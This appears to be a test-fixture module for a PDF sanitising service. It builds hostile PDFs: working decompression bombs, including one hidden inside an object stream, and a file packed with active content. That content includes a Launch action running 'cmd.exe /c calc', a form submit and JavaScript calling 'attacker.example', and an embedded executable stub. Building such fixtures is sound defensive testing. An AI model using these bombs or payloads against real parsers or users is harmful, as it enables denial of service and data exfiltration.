/**
 * Small hostile PDFs made on the fly: decompression bombs that are a few MB on disk and inflate to
 * gigabytes. Built byte by byte so that nothing but the file itself decides what a parser sees.
 */
import { Buffer } from 'node:buffer';
import { constants, deflateRawSync } from 'node:zlib';

const CHUNK = 64 * 1024 * 1024;
const ADLER_MOD = 65521;

/**
 * A zlib stream (RFC 1950) that inflates to `prefix` followed by `zeros` zero bytes (rounded down to
 * 64 MiB): one deflate block sequence for 64 MiB of zeros, repeated, then an empty final block and
 * the correct Adler-32, so even a strict inflater accepts it. About 1 KiB per 1 MiB of output.
 */
export function zlibBomb(zeros: number, prefix: Uint8Array = new Uint8Array(0)): Buffer {
  const head = deflateRawSync(prefix, { finishFlush: constants.Z_SYNC_FLUSH });
  const zeroBlocks = deflateRawSync(Buffer.alloc(CHUNK), { level: 9, finishFlush: constants.Z_SYNC_FLUSH });
  const repeats = Math.floor(zeros / CHUNK);
  let a = 1;
  let b = 0;
  for (const byte of prefix) {
    a = (a + byte) % ADLER_MOD;
    b = (b + a) % ADLER_MOD;
  }
  // Each zero byte leaves `a` as it is and adds it to `b`.
  b = (b + ((repeats * CHUNK) % ADLER_MOD) * a) % ADLER_MOD;
  const adler = Buffer.alloc(4);
  adler.writeUInt32BE(((b << 16) | a) >>> 0);
  return Buffer.concat([Buffer.from([0x78, 0xda]), head, ...Array.from({ length: repeats }, () => zeroBlocks), Buffer.from([0x03, 0x00]), adler]);
}

class PdfWriter {
  private readonly parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  private length = this.parts[0]?.length ?? 0;
  readonly offsets = new Map<number, number>();

  add(data: string | Uint8Array): void {
    const buffer = typeof data === 'string' ? Buffer.from(data, 'latin1') : Buffer.from(data);
    this.parts.push(buffer);
    this.length += buffer.length;
  }

  object(number: number, body: string, stream?: Uint8Array): void {
    this.offsets.set(number, this.length);
    this.add(`${number} 0 obj\n${body}\n`);
    if (stream !== undefined) {
      this.add('stream\n');
      this.add(stream);
      this.add('\nendstream\n');
    }
    this.add('endobj\n');
  }

  get position(): number {
    return this.length;
  }

  bytes(): Buffer {
    return Buffer.concat(this.parts);
  }
}

/** A one-page PDF whose page content stream is `content`, compressed with `filter` (a PDF name or array). */
export function pdfWithContentStream(content: Uint8Array, filter: string): Buffer {
  const pdf = new PdfWriter();
  pdf.object(1, '<< /Type /Catalog /Pages 2 0 R >>');
  pdf.object(2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>');
  pdf.object(3, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>');
  pdf.object(4, `<< /Length ${content.length} /Filter ${filter} >>`, content);
  const xref = pdf.position;
  const entries = [1, 2, 3, 4].map((n) => `${String(pdf.offsets.get(n)).padStart(10, '0')} 00000 n \n`).join('');
  pdf.add(`xref\n0 5\n0000000000 65535 f \n${entries}trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`);
  return pdf.bytes();
}

/** A one-page PDF whose page content is the array of `contents`, each compressed with `filter` (a PDF name or array). */
export function pdfWithContentStreams(contents: Uint8Array[], filter: string): Buffer {
  const pdf = new PdfWriter();
  const streamNumbers = contents.map((_, index) => 4 + index);
  pdf.object(1, '<< /Type /Catalog /Pages 2 0 R >>');
  pdf.object(2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>');
  pdf.object(3, `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents [${streamNumbers.map((n) => `${n} 0 R`).join(' ')}] >>`);
  contents.forEach((content, index) => pdf.object(4 + index, `<< /Length ${content.length} /Filter ${filter} >>`, content));
  const xref = pdf.position;
  const numbers = [1, 2, 3, ...streamNumbers];
  const entries = numbers.map((n) => `${String(pdf.offsets.get(n)).padStart(10, '0')} 00000 n \n`).join('');
  pdf.add(`xref\n0 ${numbers.length + 1}\n0000000000 65535 f \n${entries}trailer\n<< /Size ${numbers.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`);
  return pdf.bytes();
}

/**
 * A PDF whose catalog lives in an object stream that inflates to `zeros` bytes after the catalog,
 * behind `/Filter [/ASCIIHexDecode /FlateDecode]`, which a zlib pre-scan cannot see into: any
 * parser must inflate it to open the document.
 */
export function pdfWithHiddenObjectStreamBomb(zeros: number): Buffer {
  const catalog = '<< /Type /Catalog /Pages 2 0 R >>';
  const header = '1 0 ';
  const bomb = zlibBomb(zeros, Buffer.from(header + catalog, 'latin1'));
  const hex = Buffer.from(`${bomb.toString('hex')}>`, 'latin1');
  const pdf = new PdfWriter();
  pdf.object(2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>');
  pdf.object(3, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>');
  pdf.object(5, `<< /Type /ObjStm /N 1 /First ${header.length} /Length ${hex.length} /Filter [/ASCIIHexDecode /FlateDecode] >>`, hex);
  const xrefOffset = pdf.position;
  // Cross-reference stream, /W [1 4 2]: type, offset or object stream number, generation or index.
  const row = (type: number, field: number, index: number): Buffer => {
    const entry = Buffer.alloc(7);
    entry.writeUInt8(type, 0);
    entry.writeUInt32BE(field, 1);
    entry.writeUInt16BE(index, 5);
    return entry;
  };
  const table = Buffer.concat([
    row(0, 0, 65535),
    row(2, 5, 0),
    row(1, pdf.offsets.get(2) ?? 0, 0),
    row(1, pdf.offsets.get(3) ?? 0, 0),
    row(1, xrefOffset, 0),
    row(1, pdf.offsets.get(5) ?? 0, 0),
  ]);
  pdf.object(4, `<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length ${table.length} >>`, table);
  pdf.add(`startxref\n${xrefOffset}\n%%EOF\n`);
  return pdf.bytes();
}

/** One object of {@link pdfFromObjects}: its dictionary (or other value) and, for a stream, its data. */
export interface CraftedObject {
  body: string;
  stream?: string | Uint8Array;
}

/**
 * A PDF made of `objects` (object number → object), with a classic cross-reference table and the
 * catalog as object 1. A stream's `/Length` is added to its dictionary.
 */
export function pdfFromObjects(objects: Record<number, CraftedObject>): Buffer {
  const pdf = new PdfWriter();
  const numbers = Object.keys(objects).map(Number).sort((a, b) => a - b);
  for (const number of numbers) {
    const { body, stream } = objects[number]!;
    if (stream === undefined) {
      pdf.object(number, body);
    } else {
      const data = typeof stream === 'string' ? Buffer.from(stream, 'latin1') : stream;
      pdf.object(number, body.replace(/>>\s*$/, ` /Length ${data.length} >>`), data);
    }
  }
  const size = Math.max(...numbers) + 1;
  const xref = pdf.position;
  const entries = Array.from({ length: size }, (_, number) => {
    const offset = pdf.offsets.get(number);
    return offset === undefined ? '0000000000 65535 f \n' : `${String(offset).padStart(10, '0')} 00000 n \n`;
  }).join('');
  pdf.add(`xref\n0 ${size}\n${entries}trailer\n<< /Size ${size} /Root 1 0 R /ID [<0123456789abcdef0123456789abcdef> <0123456789abcdef0123456789abcdef>] >>\nstartxref\n${xref}\n%%EOF\n`);
  return pdf.bytes();
}

/**
 * `original` with one incremental update that rewrites its catalog with `addition` inserted before
 * its closing `>>` and adds `objects`, numbered from the original's `/Size` on (`addition` and the
 * objects name them through `number(i)`, the number of the i-th added object).
 * @param catalog the catalog's object number and dictionary, as `qpdf --show-object` prints them
 * @param trailer the trailer dictionary, as `qpdf --show-object=trailer` prints it
 */
export function withCatalogUpdate(
  original: Buffer,
  catalog: { number: number; dictionary: string },
  trailer: string,
  build: (number: (index: number) => number) => { addition: string; objects: string[] },
): Buffer {
  const size = Number(/\/Size (\d+)/.exec(trailer)?.[1]);
  const previous = Number(/startxref\s+(\d+)\s+%%EOF\s*$/.exec(original.toString('latin1'))?.[1]);
  if (!Number.isInteger(size) || !Number.isInteger(previous)) throw new Error('Cannot read the trailer of the original.');
  const { addition, objects } = build((index) => size + index);
  const parts: Buffer[] = [original, Buffer.from('\n')];
  let position = original.length + 1;
  const offsets: [number, number][] = [];
  const add = (number: number, body: string): void => {
    offsets.push([number, position]);
    const text = Buffer.from(`${number} 0 obj\n${body}\nendobj\n`, 'latin1');
    parts.push(text);
    position += text.length;
  };
  add(catalog.number, catalog.dictionary.replace(/>>\s*$/, ` ${addition} >>`));
  objects.forEach((body, index) => add(size + index, body));
  const sections = offsets.map(([number, offset]) => `${number} 1\n${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const root = /\/Root \d+ \d+ R/.exec(trailer)?.[0] ?? '';
  const id = /\/ID\s*\[[^\]]*\]/.exec(trailer)?.[0] ?? '';
  parts.push(Buffer.from(`xref\n0 1\n0000000000 65535 f \n${sections}trailer\n<< /Size ${size + objects.length} ${root} ${id} /Prev ${previous} >>\nstartxref\n${position}\n%%EOF\n`, 'latin1'));
  return Buffer.concat(parts);
}

/**
 * `original` with one incremental update that gives its catalog `/Perms /DocMDP`: the mark of a
 * certification signature that forbids changes (ISO 32000-1 §12.8.2.2, /P 1). The signature
 * dictionary is a stand-in (no real CMS): what matters is how a sealer treats the permission.
 * @param catalog the catalog's object number and dictionary, as `qpdf --show-object` prints them
 * @param trailer the trailer dictionary, as `qpdf --show-object=trailer` prints it
 */
export function withDocMdpPermission(original: Buffer, catalog: { number: number; dictionary: string }, trailer: string): Buffer {
  return withCatalogUpdate(original, catalog, trailer, (number) => ({
    addition: `/Perms << /DocMDP ${number(0)} 0 R >>`,
    objects: [
      '<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 0 0 0] /Contents <00> ' +
        '/Reference [ << /Type /SigRef /TransformMethod /DocMDP /TransformParams << /Type /TransformParams /P 1 /V /1.2 >> >> ] >>',
    ],
  }));
}

/** The URI of the link that {@link pdfWithActiveContent} keeps. */
export const KEPT_LINK = 'https://example.com/terms';

/**
 * A one-page PDF with every kind of active content a frozen document loses (docs/api.md#what-the-service-removes-from-documents-and-why), each
 * where producers put it, and a URI link that stays: document JavaScript (`/Names /JavaScript`),
 * `/OpenAction` JavaScript, `/AA` on the catalog, the page, an annotation and a field, links with
 * Launch, GoToR, GoToE and ImportData actions, a URI link whose `/Next` runs JavaScript, push buttons
 * with SubmitForm and ResetForm, a screen annotation with a Rendition, a file attachment annotation
 * and an embedded file (name tree), rich media and 3D annotations, an XFA form. The page shows
 * the text "Visible page text".
 */
export function pdfWithActiveContent(): Buffer {
  const js = (code: string): string => `<< /Type /Action /S /JavaScript /JS (${code}) >>`;
  const rect = (index: number): string => `[${72 + (index % 4) * 120} ${600 - Math.floor(index / 4) * 60} ${172 + (index % 4) * 120} ${640 - Math.floor(index / 4) * 60}]`;
  const content = 'BT /F1 18 Tf 72 700 Td (Visible page text) Tj ET\n';
  return pdfFromObjects({
    1: {
      body:
        '<< /Type /Catalog /Pages 2 0 R /OpenAction 10 0 R /AA << /WC 11 0 R /WP 11 0 R >> ' +
        '/Names << /JavaScript 12 0 R /EmbeddedFiles 13 0 R >> /AcroForm << /Fields [30 0 R 31 0 R 32 0 R] /XFA 40 0 R /NeedAppearances false >> /NeedsRendering false >>',
    },
    2: { body: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' },
    3: {
      body:
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ' +
        '/AA << /O 14 0 R >> /Annots [20 0 R 21 0 R 22 0 R 23 0 R 24 0 R 25 0 R 26 0 R 27 0 R 28 0 R 29 0 R 30 0 R 31 0 R 32 0 R] >>',
    },
    4: { body: '<< >>', stream: content },
    5: { body: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>' },
    10: { body: js('app.alert\\("open"\\)') },
    11: { body: js('app.alert\\("will close"\\)') },
    12: { body: '<< /Names [(startup) 15 0 R] >>' },
    13: { body: '<< /Names [(payload.exe) 16 0 R] >>' },
    14: { body: js('app.alert\\("page open"\\)') },
    15: { body: js('app.alert\\("document level"\\)') },
    16: { body: '<< /Type /Filespec /F (payload.exe) /UF (payload.exe) /EF << /F 17 0 R >> >>' },
    17: { body: '<< /Type /EmbeddedFile >>', stream: 'MZ embedded executable' },
    18: { body: '<< /Type /Filespec /F (attached.txt) /EF << /F 19 0 R >> >>' },
    19: { body: '<< /Type /EmbeddedFile >>', stream: 'attached file' },
    20: { body: `<< /Type /Annot /Subtype /Link /Rect ${rect(0)} /Border [0 0 0] /A << /S /URI /URI (${KEPT_LINK}) /Next ${'41 0 R'} >> >>` },
    21: { body: `<< /Type /Annot /Subtype /Link /Rect ${rect(1)} /A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>` },
    22: { body: `<< /Type /Annot /Subtype /Link /Rect ${rect(2)} /A << /S /GoToR /F (other.pdf) /D [0 /Fit] >> >>` },
    23: { body: `<< /Type /Annot /Subtype /Link /Rect ${rect(3)} /A << /S /GoToE /T << /R /C /N (payload.exe) >> /D [0 /Fit] >> >>` },
    24: { body: `<< /Type /Annot /Subtype /Link /Rect ${rect(4)} /A << /S /ImportData /F (data.fdf) >> /AA << /E 14 0 R >> >>` },
    25: { body: `<< /Type /Annot /Subtype /Screen /Rect ${rect(5)} /A << /S /Rendition /OP 0 /R << /Type /Rendition /S /MR /C << /Type /MediaClip /S /MCD /D (clip.mp4) >> >> >> >>` },
    26: { body: `<< /Type /Annot /Subtype /FileAttachment /Rect ${rect(6)} /FS 18 0 R /Name /Paperclip >>` },
    27: { body: `<< /Type /Annot /Subtype /RichMedia /Rect ${rect(7)} /RichMediaContent << /Assets << /Names [(movie.swf) 18 0 R] >> >> >>` },
    28: { body: `<< /Type /Annot /Subtype /3D /Rect ${rect(8)} /3DD 42 0 R >>` },
    29: { body: `<< /Type /Annot /Subtype /Link /Rect ${rect(9)} /A << /S /GoTo /D [3 0 R /Fit] >> >>` },
    30: { body: `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (submit) /Rect ${rect(10)} /P 3 0 R /A << /S /SubmitForm /F << /FS /URL /F (https://attacker.example/collect) >> >> >>` },
    31: { body: `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (reset) /Rect ${rect(11)} /P 3 0 R /A << /S /ResetForm >> >>` },
    32: { body: `<< /Type /Annot /Subtype /Widget /FT /Tx /T (amount) /V (12) /DA (/Helv 0 Tf 0 g) /Rect ${rect(12)} /P 3 0 R /AA << /K 43 0 R /F 43 0 R >> >>` },
    40: { body: '<< >>', stream: '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>' },
    41: { body: js('app.launchURL\\("https://attacker.example"\\)') },
    42: { body: '<< /Type /3D /Subtype /U3D >>', stream: 'U3D model' },
    43: { body: js('AFNumber_Format\\(2, 0, 0, 0, "", true\\)') },
  });
}

/**
 * A one-page PDF with one optional content group, "Hidden terms" (object 10), whose content reads
 * "Secret clause", and `config` as the default configuration's extra entries (`/OFF [10 0 R]`,
 * `/AS [...]`, ...); `group` adds entries to the group (`/Usage << ... >>`), `catalog` to the
 * catalog, `page` to the page (object 3); `objects` are added as they are (numbers from 20 on).
 */
export function pdfWithLayer({
  config = '',
  group = '',
  catalog = '',
  page = '',
  objects = {},
}: { config?: string; group?: string; catalog?: string; page?: string; objects?: Record<number, CraftedObject> } = {}): Buffer {
  const content = 'BT /F1 18 Tf 72 700 Td (Always shown) Tj ET\n/OC /L1 BDC BT /F1 18 Tf 72 650 Td (Secret clause) Tj ET EMC\n';
  return pdfFromObjects({
    1: { body: `<< /Type /Catalog /Pages 2 0 R /OCProperties << /OCGs [10 0 R] /D << /Order [10 0 R] ${config} >> >> ${catalog} >>` },
    2: { body: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' },
    3: { body: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> /Properties << /L1 10 0 R >> >> ${page} >>` },
    4: { body: '<< >>', stream: content },
    5: { body: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>' },
    10: { body: `<< /Type /OCG /Name (Hidden terms) ${group} >>` },
    ...objects,
  });
}

/**
 * `original` (a file with a classic cross-reference table, as {@link pdfFromObjects} writes) with one
 * incremental update: `objects` (number → dictionary, or `null` to free the number) written after
 * it, with a cross-reference section and a trailer whose `/Prev` is the original's.
 */
export function withIncrementalUpdate(original: Buffer, objects: Record<number, CraftedObject | null>): Buffer {
  const text = original.toString('latin1');
  const previous = Number([...text.matchAll(/startxref\s+(\d+)\s+%%EOF/g)].at(-1)?.[1]);
  const trailer = text.slice(text.lastIndexOf('trailer'));
  const root = /\/Root \d+ \d+ R/.exec(trailer)?.[0] ?? '';
  const id = /\/ID\s*\[[^\]]*\]/.exec(trailer)?.[0] ?? '';
  const numbers = Object.keys(objects).map(Number).sort((a, b) => a - b);
  const size = Math.max(Number(/\/Size (\d+)/.exec(trailer)?.[1]), ...numbers.map((number) => number + 1));
  const parts: Buffer[] = [original];
  let position = original.length;
  const rows: string[] = ['0 1\n0000000000 65535 f \n'];
  for (const number of numbers) {
    const object = objects[number];
    if (object === null || object === undefined) {
      rows.push(`${number} 1\n0000000000 00001 f \n`);
      continue;
    }
    const data = object.stream === undefined ? undefined : typeof object.stream === 'string' ? Buffer.from(object.stream, 'latin1') : Buffer.from(object.stream);
    const body = data === undefined ? object.body : object.body.replace(/>>\s*$/, ` /Length ${data.length} >>`);
    const chunk = Buffer.concat([
      Buffer.from(`${number} 0 obj\n${body}\n`, 'latin1'),
      ...(data === undefined ? [] : [Buffer.from('stream\n'), data, Buffer.from('\nendstream\n')]),
      Buffer.from('endobj\n'),
    ]);
    rows.push(`${number} 1\n${String(position).padStart(10, '0')} 00000 n \n`);
    parts.push(chunk);
    position += chunk.length;
  }
  parts.push(Buffer.from(`xref\n${rows.join('')}trailer\n<< /Size ${size} ${root} ${id} /Prev ${previous} >>\nstartxref\n${position}\n%%EOF\n`, 'latin1'));
  return Buffer.concat(parts);
}

/** The values of {@link pdfWithMultilineForm}: a multi-line text value (Latin-1 letters beyond ASCII), the list's options and its selection. */
export const MULTILINE_FORM = {
  lines: ['Grüße aus München', 'Zweite Zeile: ça coûte cher, señor'],
  options: ['Basic', 'Premium', 'Über'],
  selected: 'Premium',
  /** Rectangles in points: the multi-line field, the list box. */
  notesRect: [72, 560, 372, 700] as [number, number, number, number],
  planRect: [72, 400, 272, 500] as [number, number, number, number],
};

/**
 * A one-page form as producers that leave appearances to the viewer write it (`/NeedAppearances true`,
 * no appearance streams): a multi-line text field "notes" holding {@link MULTILINE_FORM}'s lines
 * (PDFDocEncoding), and a list box "plan" with its options and one selected, both in Helvetica 12
 * with WinAnsi encoding from the form's `/DR` and a black border.
 */
export function pdfWithMultilineForm(): Buffer {
  const { lines, options, selected, notesRect, planRect } = MULTILINE_FORM;
  const text = (value: string): string => `(${value.replace(/[\\()]/g, (character) => `\\${character}`)})`;
  const rect = (r: number[]): string => `[${r.join(' ')}]`;
  return pdfFromObjects({
    1: { body: '<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [10 0 R 11 0 R] /NeedAppearances true /DA (/Helv 0 Tf 0 g) /DR << /Font << /Helv 5 0 R >> >> >> >>' },
    2: { body: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' },
    3: { body: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Annots [10 0 R 11 0 R] /Resources << /Font << /F1 5 0 R >> >> >>' },
    4: { body: '<< >>', stream: 'BT /F1 12 Tf 72 740 Td (Order form) Tj ET\n' },
    5: { body: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>' },
    10: { body: `<< /Type /Annot /Subtype /Widget /F 4 /P 3 0 R /FT /Tx /Ff 4096 /T (notes) /V ${text(lines.join('\r'))} /DA (/Helv 12 Tf 0 g) /Rect ${rect(notesRect)} /MK << /BC [0 0 0] >> >>` },
    11: {
      body: `<< /Type /Annot /Subtype /Widget /F 4 /P 3 0 R /FT /Ch /T (plan) /Opt [${options.map(text).join(' ')}] /V ${text(selected)} /DA (/Helv 12 Tf 0 g) /Rect ${rect(planRect)} /MK << /BC [0 0 0] >> >>`,
    },
  });
}
